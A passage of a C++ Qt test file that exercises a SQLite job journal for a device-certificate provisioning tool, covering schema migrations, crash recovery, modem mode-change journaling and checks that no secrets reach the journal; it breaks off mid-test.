#include "device/DeviceAccess.h"
#include "device/DeviceProfile.h"
#include "device/DeviceProfiles.h"
#include "EmulatedFoundry.h"
#include "jobs/JobJournal.h"
#include "jobs/ProvisioningJob.h"
#include "device/SerialLink.h"
#include "foundry/FoundryReply.h"
#include "jobs/CertificateRevocation.h"
#include "SimulatedDevice.h"
#include "TestMain.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QSignalSpy>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>

using namespace std::chrono_literals;

using State = ProvisioningJob::State;
using Outcome = JobResult::Outcome;
using StepName = JobJournal::StepName;

// The journal on a real SQLite file, and what whole jobs write into it: the in-process Foundry
// emulator and the device simulator on a pseudo-terminal, as in tst_provisioningjob.
class TestJobJournal : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void cleanup();
    void schemaAndWalOnAFile();
    void refusesANewerSchema();
    void updatesAVersion1Journal();
    void updatesAVersion2Journal();
    void updatesAVersion5Journal();
    void recordsAJob();
    void recordsAFailedJob();
    void crashLeavesAnUnfinishedJob();
    void journalFailureStopsBeforeGenerating();
    void modemModeChangeIsJournaled();
    void unrecordedModeChangeIsNotMade();
    void queries();
    void provisionedJobIsTheLiveOneOfADevice();
    void namesMapToEnums();
    void announcesCommittedChanges();
    void unknownNamesAreReported();
    void csvQuoting();
    void csvNeutralisesFormulas();
    void csvShowsKindReasonAndRevoke();
    void historyCommand();
    void revocationIsJournaled();
    void revocationGoesAheadWithoutTheJournal();
    void revokeShowsInHistory();

private:
    bool startDevice(const QStringList &extra = {}, const QString &profile = QStringLiteral("station"));
    // Runs a job of settingsFor(deviceId) to its end.
    const JobResult &runJob(const QString &deviceId);
    ProvisioningJob::Settings settingsFor(const QString &deviceId);
    QString journalFile() const { return m_dir->filePath(QStringLiteral("journal.sqlite")); }
    // Every byte of the journal and its WAL: no secret may be anywhere in them.
    void verifyNoSecrets();

    EmulatedFoundry m_foundry{QStringLiteral("journal-test-token-5f3a9c")};
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<SimulatedDevice> m_device;
    std::unique_ptr<SerialLink> m_link;
    std::unique_ptr<DeviceProfile> m_profile;
    std::unique_ptr<ProvisioningJob> m_job;
    std::unique_ptr<JobJournal> m_journal;
};

void TestJobJournal::initTestCase()
{
    QString error;
    QVERIFY2(m_foundry.start(&error), qPrintable(error));
}

void TestJobJournal::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_foundry.emulator().clearFaults();
    m_foundry.emulator().clearRequests();
    m_journal = std::make_unique<JobJournal>(journalFile());
    QVERIFY2(m_journal->open(), qPrintable(m_journal->errorString()));
}

void TestJobJournal::cleanup()
{
    m_job.reset();
    m_profile.reset();
    m_link.reset();
    m_device.reset();
    m_journal.reset();
}

bool TestJobJournal::startDevice(const QStringList &extra, const QString &profile)
{
    m_device = std::make_unique<SimulatedDevice>(m_dir->filePath(QStringLiteral("store.json")));
    if (!m_device->start(profile, extra))
        return false;
    SerialSettings settings;
    settings.portName = m_device->portName();
    m_link = std::make_unique<SerialLink>(settings);
    if (!m_link->open())
        return false;
    m_profile.reset(DeviceProfiles::createAttached(profile, m_link.get()));
    return true;
}

const JobResult &TestJobJournal::runJob(const QString &deviceId)
{
    m_job = std::make_unique<ProvisioningJob>(&m_foundry.client(), m_profile.get(), settingsFor(deviceId));
    QSignalSpy finished(m_job.get(), &ProvisioningJob::finished);
    m_job->start();
    if (finished.isEmpty() && !finished.wait(60000))
        qWarning("the job did not finish");
    return m_job->result();
}

ProvisioningJob::Settings TestJobJournal::settingsFor(const QString &deviceId)
{
    ProvisioningJob::Settings settings;
    settings.deviceId = deviceId;
    settings.slot = 2;
    settings.topics = {QStringLiteral("fleet/journal/up")};
    settings.port = m_link ? m_link->settings().portName : QString();
    settings.provisionBackoff = 50ms;
    settings.journal = m_journal.get();
    settings.operatorName = QStringLiteral("alice");
    settings.station = QStringLiteral("bench-1");
    return settings;
}

void TestJobJournal::verifyNoSecrets()
{
    QByteArray bytes;
    for (const QString &suffix : {QString(), QStringLiteral("-wal"), QStringLiteral("-shm")}) {
        QFile file(journalFile() + suffix);
        if (file.open(QIODevice::ReadOnly))
            bytes += file.readAll();
    }
    QVERIFY(!bytes.isEmpty());
    QVERIFY(!bytes.contains(m_foundry.token().toUtf8()));
    QVERIFY(!bytes.contains("PRIVATE KEY"));
    QVERIFY(!bytes.contains("-----BEGIN"));
    // No PEM body line of any certificate Foundry still holds: the journal keeps IDs, not PEM. (The
    // key itself is not kept by the emulator or the simulator, so its lines cannot be compared; the
    // PEM marker check above covers it.)
    for (const EmulatorCertificate &certificate : m_foundry.emulator().certificates()) {
        for (const QByteArray &line : certificate.certificatePem.split('\n')) {
            const QByteArray trimmed = line.trimmed();
            if (trimmed.size() >= 16 && !trimmed.startsWith("-----"))
                QVERIFY2(!bytes.contains(trimmed), trimmed.constData());
        }
    }
}

void TestJobJournal::schemaAndWalOnAFile()
{
    QCOMPARE(m_journal->journalMode(), QStringLiteral("wal"));
    QVERIFY(QFile::exists(journalFile()));
    // The schema as another reader sees it, through its own connection.
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("schema-check"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("SELECT version FROM schema_version")) && query.next());
        QCOMPARE(query.value(0).toInt(), JobJournal::schemaVersion);
        QVERIFY(query.exec(QStringLiteral("PRAGMA journal_mode")) && query.next());
        QCOMPARE(query.value(0).toString(), QStringLiteral("wal"));
        QStringList columns;
        QVERIFY(query.exec(QStringLiteral("PRAGMA table_info(jobs)")));
        while (query.next())
            columns << query.value(1).toString();
        QCOMPARE(columns, (QStringList{QStringLiteral("id"), QStringLiteral("started_at"), QStringLiteral("finished_at"),
                                       QStringLiteral("operator"), QStringLiteral("station"), QStringLiteral("port"),
                                       QStringLiteral("profile"), QStringLiteral("slot"), QStringLiteral("device_id"),
                                       QStringLiteral("cert_id"), QStringLiteral("arn"), QStringLiteral("outcome"),
                                       QStringLiteral("error"), QStringLiteral("device_serial"), QStringLiteral("topics"),
                                       QStringLiteral("run_id"), QStringLiteral("kind"), QStringLiteral("reason"),
                                       QStringLiteral("device_access"), QStringLiteral("origin")}));
        // Version 6: the journal's own identity, which journal migrate marks moved jobs with.
        QVERIFY(query.exec(QStringLiteral("SELECT count(*), min(length(id)) FROM journal_identity")) && query.next());
        QCOMPARE(query.value(0).toInt(), 1);
        QCOMPARE(query.value(1).toInt(), 36);
        columns.clear();
        QVERIFY(query.exec(QStringLiteral("PRAGMA table_info(steps)")));
        while (query.next())
            columns << query.value(1).toString();
        QCOMPARE(columns, (QStringList{QStringLiteral("id"), QStringLiteral("job_id"), QStringLiteral("name"),
                                       QStringLiteral("started_at"), QStringLiteral("finished_at"), QStringLiteral("ok"),
                                       QStringLiteral("detail")}));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("schema-check"));
    // A second instance on the same file, as a second lane would hold: its own connection, same rows.
    JobJournal second(journalFile());
    QVERIFY2(second.open(), qPrintable(second.errorString()));
    const qint64 id = second.beginJob({});
    QVERIFY(id > 0);
    QCOMPARE(m_journal->unfinishedJobs().size(), 1);
}

void TestJobJournal::refusesANewerSchema()
{
    m_journal.reset();
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("newer"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("INSERT INTO schema_version (version) VALUES (99)")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("newer"));
    JobJournal journal(journalFile());
    QVERIFY(!journal.open());
    QVERIFY2(journal.errorString().contains(QLatin1String("newer")), qPrintable(journal.errorString()));
}

// A journal from before recovery kept the device and topics: its jobs stay readable.
void TestJobJournal::updatesAVersion1Journal()
{
    m_journal.reset();
    const QString file = m_dir->filePath(QStringLiteral("version1.sqlite"));
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("version1"));
        db.setDatabaseName(file);
        QVERIFY(db.open());
        QSqlQuery query(db);
        for (const char *statement :
             {"CREATE TABLE schema_version (version INTEGER NOT NULL)", "INSERT INTO schema_version VALUES (1)",
              "CREATE TABLE jobs (id INTEGER PRIMARY KEY, started_at TEXT NOT NULL, finished_at TEXT, operator TEXT, "
              "station TEXT, port TEXT, profile TEXT, slot INTEGER, device_id TEXT, cert_id TEXT, arn TEXT, "
              "outcome TEXT, error TEXT)",
              "CREATE TABLE steps (id INTEGER PRIMARY KEY, job_id INTEGER NOT NULL REFERENCES jobs(id), name TEXT "
              "NOT NULL, started_at TEXT NOT NULL, finished_at TEXT, ok INTEGER, detail TEXT)",
              "INSERT INTO jobs (started_at, finished_at, device_id, cert_id, outcome) VALUES "
              "('2026-11-01T10:00:00.000Z', '2026-11-01T10:00:02.000Z', 'old-device', 'abcd', 'done')"})
            QVERIFY2(query.exec(QString::fromLatin1(statement)), qPrintable(query.lastError().text()));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("version1"));

    JobJournal journal(file);
    QVERIFY2(journal.open(), qPrintable(journal.errorString()));
    const QList<JobJournal::Job> jobs = journal.jobs();
    QCOMPARE(jobs.size(), 1);
    QCOMPARE(jobs.constFirst().deviceId, QStringLiteral("old-device"));
    QCOMPARE(jobs.constFirst().outcome, Outcome::Done);
    QVERIFY(jobs.constFirst().topics.isEmpty());
    const qint64 id = journal.beginJob({});
    QVERIFY(journal.setDevice(id, QStringLiteral("SN-9"), {QStringLiteral("a/b")}));
    QCOMPARE(journal.job(id)->topics, QStringList{QStringLiteral("a/b")});
    // Opened again, nothing is updated twice.
    JobJournal again(file);
    QVERIFY2(again.open(), qPrintable(again.errorString()));
    QCOMPARE(again.jobs().size(), 2);
}

// A journal the previous version wrote, with its rows: they stay, as provisioning jobs, and revokes
// can be recorded beside them.
void TestJobJournal::updatesAVersion2Journal()
{
    m_journal.reset();
    const QString file = m_dir->filePath(QStringLiteral("version2.sqlite"));
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("version2"));
        db.setDatabaseName(file);
        QVERIFY(db.open());
        QSqlQuery query(db);
        // The schema version 2 made, statement for statement.
        for (const char *statement :
             {"PRAGMA journal_mode=WAL", "CREATE TABLE schema_version (version INTEGER NOT NULL)",
              "CREATE TABLE jobs (id INTEGER PRIMARY KEY, started_at TEXT NOT NULL, finished_at TEXT, operator TEXT, "
              "station TEXT, port TEXT, profile TEXT, slot INTEGER, device_id TEXT, cert_id TEXT, arn TEXT, "
              "outcome TEXT, error TEXT, device_serial TEXT, topics TEXT, run_id TEXT)",
              "CREATE TABLE steps (id INTEGER PRIMARY KEY, job_id INTEGER NOT NULL REFERENCES jobs(id), name TEXT "
              "NOT NULL, started_at TEXT NOT NULL, finished_at TEXT, ok INTEGER, detail TEXT)",
              "CREATE INDEX jobs_device_id ON jobs(device_id)", "CREATE INDEX jobs_cert_id ON jobs(cert_id)",
              "CREATE INDEX jobs_started_at ON jobs(started_at)", "CREATE INDEX jobs_unfinished ON jobs(finished_at)",
              "CREATE INDEX steps_job_id ON steps(job_id)", "INSERT INTO schema_version (version) VALUES (2)",
              "INSERT INTO jobs (started_at, finished_at, operator, station, port, profile, slot, device_id, cert_id, "
              "arn, outcome, device_serial, topics, run_id) VALUES ('2026-11-20T10:00:00.000Z', "
              "'2026-11-20T10:00:09.000Z', 'alice', 'bench-1', '/dev/ttyACM0', 'station', 1, 'dev-v2', 'c2c2', "
              "'arn:c2c2', 'done', 'SN-2', '[\"v2/up\"]', 'run-gone')",
              "INSERT INTO steps (job_id, name, started_at, finished_at, ok) VALUES (1, 'Provisioning', "
              "'2026-11-20T10:00:08.000Z', '2026-11-20T10:00:09.000Z', 1)",
              "INSERT INTO jobs (started_at, device_id, run_id) VALUES ('2026-11-20T11:00:00.000Z', 'dev-v2-open', "
              "'run-gone')"})
            QVERIFY2(query.exec(QString::fromLatin1(statement)), qPrintable(query.lastError().text()));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("version2"));

    JobJournal journal(file);
    QVERIFY2(journal.open(), qPrintable(journal.errorString()));
    const QList<JobJournal::Job> jobs = journal.jobs();
    QVERIFY2(journal.errorString().isEmpty(), qPrintable(journal.errorString()));
    QCOMPARE(jobs.size(), 2);
    const JobJournal::Job &done = jobs.constLast();
    QCOMPARE(done.kind, JobJournal::Kind::Provision);
    QCOMPARE(done.outcome, Outcome::Done);
    QCOMPARE(done.certificateId, QStringLiteral("c2c2"));
    QCOMPARE(done.topics, QStringList{QStringLiteral("v2/up")});
    QCOMPARE(done.deviceSerial, QStringLiteral("SN-2"));
    QVERIFY(!done.certificateRevokedAt.isValid());
    QCOMPARE(journal.steps(done.id).size(), 1);
    QCOMPARE(journal.steps(done.id).constFirst().name, StepName(State::Provisioning));
    QCOMPARE(journal.unfinishedJobs().size(), 1);
    QCOMPARE(journal.unfinishedJobs().constFirst().deviceId, QStringLiteral("dev-v2-open"));

    // A revoke of the old job's certificate is recorded and shows on the old job.
    JobJournal::Job revoke;
    revoke.kind = JobJournal::Kind::Revoke;
    revoke.certificateId = QStringLiteral("c2c2");
    revoke.reason = QStringLiteral("returned by the customer");
    const qint64 id = journal.beginJob(revoke);
    QVERIFY(id > 0);
    QVERIFY(journal.finishJob(id, Outcome::Done, {}));
    QCOMPARE(journal.job(id)->kind, JobJournal::Kind::Revoke);
    QCOMPARE(journal.job(id)->reason, QStringLiteral("returned by the customer"));
    QVERIFY(journal.job(done.id)->certificateRevokedAt.isValid());
    // Opened again, nothing is updated twice.
    JobJournal again(file);
    QVERIFY2(again.open(), qPrintable(again.errorString()));
    QCOMPARE(again.jobs().size(), 3);
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("version-check"));
        db.setDatabaseName(file);
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("SELECT count(*), max(version) FROM schema_version")) && query.next());
        QCOMPARE(query.value(0).toInt(), 1);
        QCOMPARE(query.value(1).toInt(), JobJournal::schemaVersion);
        // Version 4's indexes for the history page's searches.
        QVERIFY(query.exec(QStringLiteral("SELECT count(*) FROM sqlite_master WHERE type = 'index' AND name IN "
                                          "('jobs_cert_id_nocase', 'jobs_operator', 'jobs_station', 'jobs_done_revokes')"))
                && query.next());
        QCOMPARE(query.value(0).toInt(), 4);
    }
    QSqlDatabase::removeDatabase(QStringLiteral("version-check"));
}

// The version 5 stations wrote (what jobs left for a person, no identity yet), statement for
// statement: its jobs and open items stay, it gains an identity and the origin column, and its items
// can be finished.
void TestJobJournal::updatesAVersion5Journal()
{
    m_journal.reset();
    const QString file = m_dir->filePath(QStringLiteral("version5.sqlite"));
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("version5"));
        db.setDatabaseName(file);
        QVERIFY(db.open());
        QSqlQuery query(db);
        for (const char *statement :
             {"PRAGMA journal_mode=WAL", "CREATE TABLE schema_version (version INTEGER NOT NULL)",
              "CREATE TABLE jobs (id INTEGER PRIMARY KEY, started_at TEXT NOT NULL, finished_at TEXT, operator TEXT, "
              "station TEXT, port TEXT, profile TEXT, slot INTEGER, device_id TEXT, cert_id TEXT, arn TEXT, "
              "outcome TEXT, error TEXT, device_serial TEXT, topics TEXT, run_id TEXT, kind TEXT NOT NULL DEFAULT "
              "'provision', reason TEXT)",
              "CREATE TABLE steps (id INTEGER PRIMARY KEY, job_id INTEGER NOT NULL REFERENCES jobs(id), name TEXT "
              "NOT NULL, started_at TEXT NOT NULL, finished_at TEXT, ok INTEGER, detail TEXT)",
              "CREATE INDEX jobs_device_id ON jobs(device_id)", "CREATE INDEX jobs_cert_id ON jobs(cert_id)",
              "CREATE INDEX jobs_started_at ON jobs(started_at)", "CREATE INDEX jobs_unfinished ON jobs(finished_at)",
              "CREATE INDEX steps_job_id ON steps(job_id)", "INSERT INTO schema_version (version) VALUES (5)",
              "CREATE INDEX jobs_cert_id_nocase ON jobs(cert_id COLLATE NOCASE)",
              "CREATE INDEX jobs_operator ON jobs(operator)", "CREATE INDEX jobs_station ON jobs(station)",
              "CREATE INDEX jobs_done_revokes ON jobs(cert_id, id) WHERE kind = 'revoke' AND outcome = 'done'",
              "CREATE TABLE left_behind (id INTEGER PRIMARY KEY, job_id INTEGER NOT NULL REFERENCES jobs(id), kind "
              "TEXT NOT NULL, action TEXT NOT NULL, cert_id TEXT, device_id TEXT, port TEXT, device_serial TEXT, slot "
              "INTEGER, certificate_state TEXT, certificate_revoked INTEGER, device_confirmed INTEGER, requested_at "
              "TEXT, device_state TEXT, restore_command BLOB, problem TEXT, recorded_at TEXT NOT NULL, finished_at "
              "TEXT, finished_by TEXT, finished_how TEXT)",
              "CREATE INDEX left_behind_open ON left_behind(finished_at)",
              "CREATE INDEX left_behind_job_id ON left_behind(job_id)",
              "INSERT INTO jobs (started_at, finished_at, station, port, device_id, cert_id, outcome, run_id) VALUES "
              "('2026-11-28T10:00:00.000Z', '2026-11-28T10:00:05.000Z', 'bench-5', '/dev/ttyACM0', 'dev-v5', 'c5c5', "
              "'needs-attention', 'run-gone')",
              "INSERT INTO left_behind (job_id, kind, action, cert_id, device_id, recorded_at) VALUES (1, "
              "'certificate-on-foundry', 'revoke-certificate', 'c5c5', 'dev-v5', '2026-11-28T10:00:05.000Z')"})
            QVERIFY2(query.exec(QString::fromLatin1(statement)), qPrintable(query.lastError().text()));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("version5"));

    JobJournal journal(file);
    QVERIFY2(journal.open(), qPrintable(journal.errorString()));
    QVERIFY(!journal.identity().isEmpty());
    QCOMPARE(journal.jobs().size(), 1);
    const QList<JobJournal::LeftBehindRecord> open = journal.openLeftBehind();
    QVERIFY2(journal.errorString().isEmpty(), qPrintable(journal.errorString()));
    QCOMPARE(open.size(), 1);
    QCOMPARE(open.constFirst().item.kind, LeftBehind::Kind::CertificateOnFoundry);
    QCOMPARE(open.constFirst().item.certificateId, QStringLiteral("c5c5"));
    QVERIFY(journal.finishLeftBehind(open.constFirst().id, QStringLiteral("ada"), QStringLiteral("revoked")));
    QVERIFY(journal.openLeftBehind().isEmpty());
    // Opened again: nothing is updated twice, and the identity stays the one it was given.
    JobJournal again(file);
    QVERIFY2(again.open(), qPrintable(again.errorString()));
    QCOMPARE(again.identity(), journal.identity());
    QCOMPARE(again.leftBehind(1).size(), 1);
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("version5-check"));
        db.setDatabaseName(file);
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("SELECT count(*), max(version) FROM schema_version")) && query.next());
        QCOMPARE(query.value(0).toInt(), 1);
        QCOMPARE(query.value(1).toInt(), JobJournal::schemaVersion);
    }
    QSqlDatabase::removeDatabase(QStringLiteral("version5-check"));
}

void TestJobJournal::recordsAJob()
{
    QVERIFY(startDevice());
    m_job = std::make_unique<ProvisioningJob>(&m_foundry.client(), m_profile.get(), settingsFor(QStringLiteral("dev-journal")));
    // While the job runs: at the moment the certificate is written, the journal already names it
    // and holds an open WritingCertificate step.
    std::optional<JobJournal::Job> duringWrite;
    QList<JobJournal::Step> stepsDuringWrite;
    connect(m_job.get(), &ProvisioningJob::stateChanged, this, [&](State state) {
        if (state != State::WritingKey)
            return;
        duringWrite = m_journal->job(m_job->journalId());
        stepsDuringWrite = m_journal->steps(m_job->journalId());
    });
    QSignalSpy finished(m_job.get(), &ProvisioningJob::finished);
    m_job->start();
    QVERIFY(finished.wait(60000));
    const JobResult &result = m_job->result();
    QVERIFY2(result.outcome == JobResult::Outcome::Done, qPrintable(result.error));

    QVERIFY(duringWrite);
    QCOMPARE(duringWrite->certificateId, result.certificateId);
    QVERIFY(!duringWrite->finishedAt.isValid());
    // How the job spoke to the device is there before its first write: what a delete later needs.
    QCOMPARE(duringWrite->deviceAccess, DeviceAccess::of(*m_profile).toText());
    QVERIFY2(duringWrite->deviceAccess.contains(QLatin1String("\"baud\":115200")), qPrintable(duringWrite->deviceAccess));
    // stateChanged comes before the new step's row: the write just ended is the last row, still open.
    QCOMPARE(stepsDuringWrite.constLast().name, StepName(State::WritingCertificate));
    QVERIFY(!stepsDuringWrite.constLast().finishedAt.isValid());
    QCOMPARE(stepsDuringWrite.at(stepsDuringWrite.size() - 2).name, StepName(State::CheckingBundle));
    QVERIFY(stepsDuringWrite.at(stepsDuringWrite.size() - 2).ok);

    const std::optional<JobJournal::Job> row = m_journal->job(m_job->journalId());
    QVERIFY(row);
    QCOMPARE(row->outcome, Outcome::Done);
    QVERIFY(row->finishedAt.isValid());
    QVERIFY(row->finishedAt >= row->startedAt);
    QCOMPARE(row->deviceId, QStringLiteral("dev-journal"));
    QCOMPARE(row->certificateId, result.certificateId);
    QCOMPARE(row->arn, result.arn);
    QCOMPARE(row->operatorName, QStringLiteral("alice"));
    QCOMPARE(row->station, QStringLiteral("bench-1"));
    QCOMPARE(row->port, m_link->settings().portName);
    QCOMPARE(row->profile, QStringLiteral("station"));
    QCOMPARE(row->slot, 2);
    QVERIFY(row->error.isEmpty());
    // What recovery would need to finish the job: the device and the topics it was given.
    QCOMPARE(row->deviceSerial, m_job->identity().serialNumber);
    QVERIFY(!row->deviceSerial.isEmpty());
    QCOMPARE(row->topics, result.topics);
    QCOMPARE(row->runId, m_journal->runId());
    const QList<JobJournal::Step> steps = m_journal->steps(row->id);
    QStringList names;
    for (const JobJournal::Step &step : steps) {
        names << JobJournal::stepNameText(step.name);
        QVERIFY(step.finishedAt.isValid());
        QVERIFY(step.ok);
    }
    QCOMPARE(names, (QStringList{QStringLiteral("IdentifyingAndGenerating"), QStringLiteral("CheckingBundle"),
                                 QStringLiteral("WritingCertificate"), QStringLiteral("WritingKey"),
                                 QStringLiteral("VerifyingCertificate"), QStringLiteral("VerifyingKey"),
                                 QStringLiteral("Provisioning")}));
    QVERIFY(steps.at(2).detail.contains(QLatin1String("slot 2")));
    QVERIFY(m_journal->unfinishedJobs().isEmpty());
    verifyNoSecrets();
}

void TestJobJournal::recordsAFailedJob()
{
    QVERIFY(startDevice({QStringLiteral("--fault"), QStringLiteral("corrupt-byte")}));
    m_job = std::make_unique<ProvisioningJob>(&m_foundry.client(), m_profile.get(), settingsFor(QStringLiteral("dev-fails")));
    QSignalSpy finished(m_job.get(), &ProvisioningJob::finished);
    m_job->start();
    QVERIFY(finished.wait(60000));
    const JobResult &result = m_job->result();
    QCOMPARE(result.outcome, JobResult::Outcome::Failed);
    const std::optional<JobJournal::Job> row = m_journal->job(m_job->journalId());
    QVERIFY(row);
    QCOMPARE(row->outcome, Outcome::Failed);
    QCOMPARE(row->certificateId, result.certificateId);
    QVERIFY(row->error.startsWith(result.error));
    const QList<JobJournal::Step> steps = m_journal->steps(row->id);
    // The failed verification is recorded with why, then each rollback step with its result.
    const auto failed = std::find_if(steps.cbegin(), steps.cend(), [](const JobJournal::Step &s) { return !s.ok; });
    QVERIFY(failed != steps.cend());
    const QString failedName = JobJournal::stepNameText(failed->name);
    QVERIFY2(failedName.startsWith(QLatin1String("Verifying")) || failedName.startsWith(QLatin1String("Writing")),
             qPrintable(failedName));
    QCOMPARE(failed->detail, result.error);
    QCOMPARE(steps.constLast().name, StepName(State::Revoking));
    QVERIFY(steps.constLast().ok);
    verifyNoSecrets();
}

// A crash after generate: the job is destroyed while the certificate is being written. The journal
// must say which certificate exists and that the device may hold it.
void TestJobJournal::crashLeavesAnUnfinishedJob()
{
    QVERIFY(startDevice());
    m_job = std::make_unique<ProvisioningJob>(&m_foundry.client(), m_profile.get(), settingsFor(QStringLiteral("dev-crash")));
    bool writing = false;
    connect(m_job.get(), &ProvisioningJob::stateChanged, this, [&writing](State state) {
        writing = writing || state == State::WritingCertificate;
    });
    m_job->start();
    QVERIFY(QTest::qWaitFor([&writing] { return writing; }, 30000));
    const qint64 id = m_job->journalId();
    const QString certificateId = m_job->result().certificateId;
    QVERIFY(!certificateId.isEmpty());
    m_job.reset();

    // What recover will see, through a fresh journal, as after a restart.
    m_journal.reset();
    m_journal = std::make_unique<JobJournal>(journalFile());
    QVERIFY(m_journal->open());
    const QList<JobJournal::Job> unfinished = m_journal->unfinishedJobs();
    QCOMPARE(unfinished.size(), 1);
    QCOMPARE(unfinished.constFirst().id, id);
    QCOMPARE(unfinished.constFirst().certificateId, certificateId);
    QCOMPARE(unfinished.constFirst().outcome, Outcome::Pending);
    const QList<JobJournal::Step> steps = m_journal->steps(id);
    QCOMPARE(steps.constLast().name, StepName(State::WritingCertificate));
    QVERIFY(!steps.constLast().finishedAt.isValid());
    QCOMPARE(steps.at(steps.size() - 2).name, StepName(State::CheckingBundle));
    QVERIFY(steps.at(steps.size() - 2).ok);
    // The certificate really is on Foundry: the journal is the only record of it now.
    QVERIFY(m_foundry.emulator().certificate(certificateId));
}

// A journal that cannot record a step stops the job before its side effect: nothing is generated.
void TestJobJournal::journalFailureStopsBeforeGenerating()
{
    QVERIFY(startDevice());
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("breaker"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        QVERIFY(query.exec(QStringLiteral("DROP TABLE steps")));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("breaker"));
    m_job = std::make_unique<ProvisioningJob>(&m_foundry.client(), m_profile.get(), settingsFor(QStringLiteral("dev-nojournal")));
    QSignalSpy finished(m_job.get(), &ProvisioningJob::finished);
    m_job->start();
    QVERIFY(!finished.isEmpty() || finished.wait(10000));
    const JobResult &result = m_job->result();
    QCOMPARE(result.outcome, JobResult::Outcome::Failed);
    QCOMPARE(result.failure, JobResult::Failure::Journal);
    QVERIFY2(result.error.contains(QLatin1String("journal")), qPrintable(result.error));
    QCOMPARE(m_foundry.emulator().requests().size(), 0);
    QCOMPARE(m_job->state(), State::Failed);
}

// The modem goes offline for the job's writes: a side effect like any other, so a row says so before
// it happens, with the command that undoes it, and is completed once the modem is back. The writes
// share one offline period, so there is one such row, open until the job puts the modem back.
void TestJobJournal::modemModeChangeIsJournaled()
{
    QVERIFY(startDevice({QStringLiteral("--cfun"), QStringLiteral("21")}, QStringLiteral("nrf-modem")));
    QList<QList<JobJournal::Step>> duringWrites;
    connect(m_profile.get(), &DeviceProfile::writeRequested, this, [&](const QByteArray &bytes) {
        if (bytes.trimmed() == "AT+CFUN=4")
            duringWrites << m_journal->steps(m_job->journalId());
    });
    const JobResult &result = runJob(QStringLiteral("dev-modem"));
    QVERIFY2(result.outcome == JobResult::Outcome::Done, qPrintable(result.error));

    // When AT+CFUN=4 went out, the row naming it was already there, open, inside the write step.
    QCOMPARE(duringWrites.size(), 1);
    const QList<JobJournal::Step> &whenOffline = duringWrites.constFirst();
    QCOMPARE(whenOffline.constLast().name, StepName(JobJournal::DeviceStep::ChangingDeviceState));
    QCOMPARE(whenOffline.constLast().detail, QStringLiteral("AT+CFUN=21"));
    QVERIFY(!whenOffline.constLast().finishedAt.isValid());
    QCOMPARE(whenOffline.at(whenOffline.size() - 2).name, StepName(State::WritingCertificate));
    const QList<JobJournal::Step> rows = m_journal->steps(m_job->journalId());
    int changes = 0;
    for (const JobJournal::Step &row : rows) {
        if (row.name != StepName(JobJournal::DeviceStep::ChangingDeviceState))
            continue;
        ++changes;
        QVERIFY(row.finishedAt.isValid() && row.ok);
        QCOMPARE(row.detail, QStringLiteral("AT+CFUN=21"));
    }
    QCOMPARE(changes, 1);
    // Completed no earlier than the step that puts the modem back began.
    const auto puttingBack = std::find_if(rows.cbegin(), rows.cend(), [](const JobJournal::Step &row) {
        return row.name == StepName(State::PuttingDeviceBack);
    });
    QVERIFY(puttingBack != rows.cend());
    QVERIFY(puttingBack->finishedAt.isValid() && puttingBack->ok);
    QCOMPARE(m_device->status().value(QLatin1String("functionalMode")).toInt(), 21);
}

// A change the journal cannot record is not made: the write fails before the modem leaves its mode.
void TestJobJournal::unrecordedModeChangeIsNotMade()
{
    QVERIFY(startDevice({QStringLiteral("--cfun"), QStringLiteral("21")}, QStringLiteral("nrf-modem")));
    {
        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("breaker"));
        db.setDatabaseName(journalFile());
        QVERIFY(db.open());
        QSqlQuery query(db);
        // As a full disk would, for these rows only.
        QVERIFY2(query.exec(QStringLiteral("CREATE TRIGGER refuse_state_changes BEFORE INSERT ON steps WHEN "
                                           "NEW.name = 'ChangingDeviceState' BEGIN SELECT RAISE(ABORT, 'disk full'); END")),
                 qPrintable(query.lastError().text()));
    }
    QSqlDatabase::removeDatabase(QStringLiteral("breaker"));
    QList<QByteArray> sent;
    // Each command is written whole, with its line end.
    connect(m_profile.get(), &DeviceProfile::writeRequested, this,
            [&sent](const QByteArray &bytes) { sent << bytes.trimmed(); });
    const JobResult &result = runJob(QStringLiteral("dev-unrecorded"));
    QCOMPARE(result.outcome, JobResult::Outcome::Failed);
    QCOMPARE(result.failure, JobResult::Failure::Journal);
    QVERIFY2(result.error.contains(QLatin1String("disk full")) && result.error.contains(QLatin1String("AT+CFUN=4")),
             qPrintable(result.error));
    // Nothing was written. Only the rollback's delete took the modem offline: undoing goes on without
    // the journal, as it does for every step, and puts the modem back.
